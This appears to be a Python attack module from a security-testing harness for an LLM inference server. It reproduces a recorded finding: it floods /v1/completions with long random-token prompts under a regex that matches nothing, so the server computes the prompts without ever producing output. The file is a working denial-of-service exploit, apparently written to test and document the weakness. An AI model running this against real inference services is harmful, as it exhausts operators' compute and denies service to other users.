"""Prompts that are computed, and whose answers can't begin: a regex that nothing matches."""

import numpy as np

from tools.attacks.target import AttackTarget

FINDING = "10: a regex that matches nothing computes whole prompts for free"

PROMPT_TOKENS = 6000
AT_ONCE = 4


async def attack(target: AttackTarget) -> None:
    """Long prompts, none of which was seen before."""
    chance = np.random.default_rng(10)
    async with target.client() as client:

        async def ask() -> None:
            prompt = chance.integers(3, 4000, size=PROMPT_TOKENS).tolist()
            body = {"prompt": prompt, "guided_regex": r"[^\s\S]", "max_tokens": 4}
            await target.post(client, "/v1/completions", body)

        await target.crowd(ask, AT_ONCE)
